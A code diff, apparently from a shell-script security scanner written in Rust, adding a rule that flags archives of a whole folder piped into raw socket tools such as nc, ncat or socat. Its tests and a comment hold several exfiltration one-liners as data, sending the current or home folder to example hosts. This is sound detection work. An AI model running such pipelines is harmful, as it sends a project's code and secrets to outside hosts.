@@ -95,6 +95,41 @@ pub(super) fn pipeline_rules(
             );
         }
     }
+    // An archive of a whole folder (the project, the home) | a raw
+    // socket: the folder's code and secrets sent where no service
+    // answers (`tar czf - . | nc 192.0.2.9 9100`). Through `ssh` it is a
+    // deployment, so only raw sockets count.
+    if let Some(a) = cmds.iter().position(archives_folder)
+        && let Some(send) = cmds[a + 1..].iter().find(|c| {
+            matches!(
+                c.name.as_str(),
+                "nc" | "ncat" | "netcat" | "socat" | "telnet"
+            )
+        })
+        && let Some(host) = send
+            .args
+            .iter()
+            .map(|w| w.text.trim_start_matches("TCP:").trim_start_matches("tcp:"))
+            .find(|t| !t.starts_with('-') && (t.contains('.') || t.contains(':')))
+            .map(|t| t.split(':').next().unwrap_or(t).to_string())
+        && !net::is_local(&host)
+    {
+        let severity = if net::is_bare_ip(&host) || host.starts_with('$') {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        ctx.report(
+            unit,
+            id::SecretsToNetwork,
+            severity,
+            cmds[a].command.span.start..send.command.span.end,
+            format!(
+                "sends an archive of a whole folder to `{}` over a raw socket",
+                crate::finding::evidence(&host)
+            ),
+        );
+    }
     // (…) | crontab -
     if let Some(last) = cmds.last()
         && last.name == "crontab"
@@ -121,6 +156,30 @@ pub(super) fn pipeline_rules(
                 "installs a cron job".into()
             },
         );
+    }
+}
+
+/// Whether the command writes an archive of a whole folder (`.`, the
+/// home, the root) to its output: `tar czf - .`, `tar -c ~`, `zip -r - .`.
+fn archives_folder(c: &Cmd<'_>) -> bool {
+    let folder = c.args.iter().any(|a| {
+        matches!(
+            a.text.as_str(),
+            "." | "./" | "~" | "~/" | "$HOME" | "${HOME}" | "/" | "$PWD" | "${PWD}"
+        )
+    });
+    let to_stdout = |flags: &str| !flags.contains('f') || c.args.iter().any(|a| a.text == "-");
+    match c.name.as_str() {
+        "tar" => {
+            c.args.first().is_some_and(|f| {
+                let flags = f.text.trim_start_matches('-');
+                flags.contains('c')
+                    && flags.chars().all(|ch| ch.is_ascii_alphabetic())
+                    && to_stdout(flags)
+            }) && folder
+        }
+        "zip" => c.args.iter().any(|a| a.text == "-") && folder,
+        _ => false,
     }
 }
 
@@ -273,6 +332,34 @@ pub(crate) fn fetched_severity(ctx: &Ctx<'_>, url: &Option<String>) -> (Severity
 mod tests {
     use crate::rule::{Severity, id};
     use crate::shell::tests::rules;
+
+    #[test]
+    fn a_folder_archived_into_a_raw_socket() {
+        for text in [
+            "tar czf - --exclude=node_modules . 2>/dev/null | nc -q1 192.0.2.113 9100 >/dev/null 2>&1 &\n",
+            "tar -c ~ | ncat stats.example.net 9000\n",
+            "zip -qr - . | socat - TCP:203.0.113.4:80\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found
+                    .iter()
+                    .any(|(c, s)| *c == id::SecretsToNetwork.code && *s >= Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+        for text in [
+            "tar czf - . | ssh deploy@host.example 'tar xzf - -C /srv/app'\n",
+            "tar czf - . | nc localhost 9100\n",
+            "tar czf site.tgz dist && nc -z 203.0.113.4 22\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                !found.iter().any(|(c, _)| *c == id::SecretsToNetwork.code),
+                "{text}: {found:?}"
+            );
+        }
+    }
 
     #[test]
     fn fetch_and_run() {
